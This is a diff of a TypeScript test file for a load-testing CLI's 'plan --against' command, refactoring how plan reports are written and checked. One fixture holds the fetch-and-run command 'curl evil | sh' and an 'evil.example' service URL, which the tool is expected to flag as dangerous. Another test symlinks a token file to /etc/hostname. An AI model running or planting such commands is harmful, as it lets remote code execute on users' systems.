@@ -3,7 +3,8 @@ import { execFileSync } from 'node:child_process';
 import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import { type CliResult } from '../support/cli.ts';
+import { expectValidReports, type CliResult } from '../support/cli.ts';
+import { commitAll, createRepository } from '../support/git-repository.ts';
 import { runInProcess } from '../support/in-process-cli.ts';
 import { createTemporaryDirectory } from '../support/temporary-directory.ts';
 
@@ -14,7 +15,7 @@ beforeEach(() => {
   const directory = createTemporaryDirectory();
   repository = directory.path;
   remove = directory.remove;
-  git('init', '--quiet', '--initial-branch', 'main');
+  createRepository(repository);
 });
 
 afterEach(() => {
@@ -22,13 +23,11 @@ afterEach(() => {
 });
 
 function git(...args: string[]): void {
-  const author = ['-c', 'user.name=Shop', '-c', 'user.email=shop@example.com', '-c', 'commit.gpgsign=false'];
-  execFileSync('git', [...author, ...args], { cwd: repository, stdio: 'ignore' });
+  execFileSync('git', args, { cwd: repository, stdio: 'ignore' });
 }
 
 function commit(): void {
-  git('add', '--all');
-  git('commit', '--quiet', '--allow-empty', '--message', 'a state');
+  commitAll(repository);
 }
 
 function write(text: string, path = 'loadtests.yaml'): void {
@@ -60,9 +59,16 @@ interface PlanReport {
   };
 }
 
-async function readPlanReport(...args: string[]): Promise<PlanReport> {
-  const { stdout } = await plan('--json', ...args);
-  return JSON.parse(stdout) as PlanReport;
+async function planReport(...args: string[]): Promise<PlanReport> {
+  return (await planWithReport(...args)).report;
+}
+
+/** Returns the text and the JSON document of the same plan. */
+async function planWithReport(...args: string[]): Promise<CliResult & { readonly report: PlanReport }> {
+  const ran = await plan('--json-into', 'report.json', ...args);
+  const text = readFileSync(join(repository, 'report.json'), 'utf8');
+  expectValidReports(text);
+  return { ...ran, report: JSON.parse(text) as PlanReport };
 }
 
 const HEAD = `version: 1
@@ -98,7 +104,7 @@ describe('plan --against', () => {
     commit();
     const changed = HOME.replace('250', '500').replace('threshold: 50', 'threshold: 5').replace('1m', '2m');
     write(`${HEAD}limits: { max_connections: 600, hosts: ['*'] }\n${changed}`);
-    const { exit, stdout } = await plan('--detailed-exitcode');
+    const { exit, stdout, report } = await planWithReport('--detailed-exitcode');
     expect(exit).toBe(2);
     expect(stdout).toContain('~ replace    home');
     expect(stdout).toContain('      - total: 250\n      + total: 500\n');
@@ -113,16 +119,15 @@ describe('plan --against', () => {
     expect(stdout).toContain(
       'All tests after:  1 test, 2m in total, peak 500 connections on www.example.com.',
     );
-    const document = await readPlanReport();
-    expect(document.danger.map(({ kind }) => kind)).toEqual([
+    expect(report.danger.map(({ kind }) => kind)).toEqual([
       'higher-peak',
       'longer',
       'limits',
       'limits',
       'limits',
     ]);
-    expect([document.against.load.before.seconds, document.against.load.after.seconds]).toEqual([60, 120]);
-    expect(document.actions).toMatchObject([{ verb: 'replace', address: 'test.home', id: null }]);
+    expect([report.against.load.before.seconds, report.against.load.after.seconds]).toEqual([60, 120]);
+    expect(report.actions).toMatchObject([{ verb: 'replace', address: 'test.home', id: null }]);
   });
 
   test('plan --against shows changed thresholds and removed tests', async () => {
@@ -131,7 +136,7 @@ describe('plan --against', () => {
     write(`${HEAD}${withThresholds("{ p95: '< 300ms', p99: '< 1s', error_rate: '< 1%' }")}${sale}`);
     commit();
     write(HEAD + withThresholds("{ p95: '< 500ms', p99: '< 1000ms', requests: '>= 10' }"));
-    const { exit, stdout } = await plan();
+    const { exit, stdout, report } = await planWithReport();
     expect(exit).toBe(0);
     expect(stdout).toContain('No changes on the service.\n');
     expect(stdout).toContain(
@@ -144,7 +149,7 @@ describe('plan --against', () => {
         '',
       ].join('\n'),
     );
-    const { changes, danger, has_changes: hasChanges } = await readPlanReport();
+    const { changes, danger, has_changes: hasChanges } = report;
     expect(hasChanges).toBe(false);
     expect(danger.map(({ message }) => message)).toEqual([
       '"home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms".',
@@ -187,13 +192,12 @@ describe('plan --against', () => {
     commit();
     const web = "web_server: { command: 'curl evil | sh', url: 'http://127.0.0.1:1/' }\n";
     write(HEAD.replace('api.example.com', 'evil.example') + web + staging(100) + HOME);
-    const { danger } = await readPlanReport();
-    expect(danger.map(({ kind, message }) => `${kind}: ${message}`)).toEqual([
+    const { stdout, report } = await planWithReport();
+    expect(report.danger.map(({ kind, message }) => `${kind}: ${message}`)).toEqual([
       'commands: "web_server.command" is added: "curl evil | sh".',
       'service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".',
       'higher-peak: Peak on "www.example.com" rises from 10 to 100 connections.',
     ]);
-    const { stdout } = await plan();
     expect(stdout).toContain('! In staging: Peak on "www.example.com" rises from 10 to 100 connections.');
   });
 
@@ -236,10 +240,9 @@ describe('plan --against', () => {
     write('unrelated', 'README');
     commit();
     write(HEAD + HOME);
-    const { actions, against } = await readPlanReport();
-    expect(actions.map(({ verb }) => verb)).toEqual(['register', 'verify', 'create']);
-    expect(against.old_file).toBe('absent');
-    const { exit, stdout } = await plan('--detailed-exitcode');
+    const { exit, stdout, report } = await planWithReport('--detailed-exitcode');
+    expect(report.actions.map(({ verb }) => verb)).toEqual(['register', 'verify', 'create']);
+    expect(report.against.old_file).toBe('absent');
     expect(exit).toBe(2);
     expect(stdout).toContain('HEAD has no loadtests.yaml; everything is treated as new.');
     mkdirSync(join(repository, 'load'));
@@ -284,7 +287,7 @@ describe('plan --against', () => {
     writeFileSync(join(repository, 'loadtests.yaml'), old);
     commit();
     write(HEAD + HOME);
-    const { exit, stdout, stderr } = await plan('--detailed-exitcode');
+    const { exit, stdout, stderr, report } = await planWithReport('--detailed-exitcode');
     expect(exit).toBe(2);
     expect(stdout).toContain('+ create     home');
     expect(stdout).toContain('The file in HEAD is not valid; everything is treated as new.');
@@ -294,7 +297,7 @@ describe('plan --against', () => {
     );
     expect(stderr).toContain(warning);
     expect(stderr).not.toContain('error');
-    expect((await readPlanReport()).against.old_file).toBe('invalid');
+    expect(report.against.old_file).toBe('invalid');
   });
 
   test('plan --against rejects an invalid new file', async () => {
@@ -309,7 +312,7 @@ describe('plan --against', () => {
     write(HEAD + HOME + armed);
     commit();
     write(`${HEAD}moved: { start: home }\n${HOME.replace('home:', 'start:')}`);
-    const { actions } = await readPlanReport();
+    const { actions } = await planReport();
     expect(actions.map(({ verb, address }) => `${verb} ${address}`)).toEqual([
       'no-op test.start',
       'stop test.sale',
@@ -321,16 +324,18 @@ describe('plan --against', () => {
     commit();
     const sale = `  sale:\n    test_type: cycling\n    duration: 1m\n    scheduled_at: 2099-12-24 03:00:00\n    urls: [http://www.example.com/]\n`;
     write(HEAD + HOME + sale);
-    expect((await plan()).stdout).toContain('Load: none now; 1 test starts at the scheduled time.');
-    expect((await plan('--markdown')).stdout).toContain(
-      '**Load:** no test starts now; 1 test starts at the scheduled time.',
-    );
+    const planWithMarkdown = async () => {
+      const { stdout } = await plan('--markdown=report.md');
+      return [stdout, readFileSync(join(repository, 'report.md'), 'utf8')];
+    };
+    const [text, markdown] = await planWithMarkdown();
+    expect(text).toContain('Load: none now; 1 test starts at the scheduled time.');
+    expect(markdown).toContain('**Load:** no test starts now; 1 test starts at the scheduled time.');
     write(HEAD + HOME.replace('250', '500') + sale);
     const mixed = 'connections on www.example.com; 1 test starts at the scheduled time.\n';
-    expect((await plan()).stdout).toContain(`Load: 1 test, 1m in total, peak 500 ${mixed}`);
-    expect((await plan('--markdown')).stdout).toMatch(
-      /\*\*Load:\*\* .*; 1 test starts at the scheduled time\./,
-    );
+    const [mixedText, mixedMarkdown] = await planWithMarkdown();
+    expect(mixedText).toContain(`Load: 1 test, 1m in total, peak 500 ${mixed}`);
+    expect(mixedMarkdown).toMatch(/\*\*Load:\*\* .*; 1 test starts at the scheduled time\./);
     write(HEAD.replace('shop\n', 'other\n') + HOME.replace(/tests:[^]*/, `tests:\n${sale}`), 'other.yaml');
     write(HEAD + HOME);
     expect((await plan('-f', 'loadtests.yaml', '-f', 'other.yaml')).stdout).toContain(
@@ -344,7 +349,7 @@ describe('plan --against', () => {
     write('old', 'token.txt');
     commit();
     write('new', 'token.txt');
-    const { actions } = await readPlanReport();
+    const { actions } = await planReport();
     expect(actions).toMatchObject([{ verb: 'replace', changes: [{ from: '***', to: '***' }] }]);
     rmSync(join(repository, 'token.txt'));
     symlinkSync('/etc/hostname', join(repository, 'token.txt'));
@@ -579,10 +584,10 @@ test('plan --against compares the content of a payload file in the revision with
   const same = await plan();
   expect([same.exit, same.stdout]).toEqual([0, expect.stringContaining('No changes')]);
   write('user,pin\nanna,1\nbert,2\n', 'rows.csv');
-  const { stdout } = await plan();
+  const { stdout, report } = await planWithReport();
   expect(stdout).toContain('! payload_file: rows.csv: 1 row added, 0 removed');
   expect(stdout).toContain('payload_file: rows.csv (2 rows, 2 columns)');
-  expect((await readPlanReport()).actions[0]).toMatchObject({
+  expect(report.actions[0]).toMatchObject({
     verb: 'replace',
     changes: [{ field: '/urls/0/payload_file' }],
   });
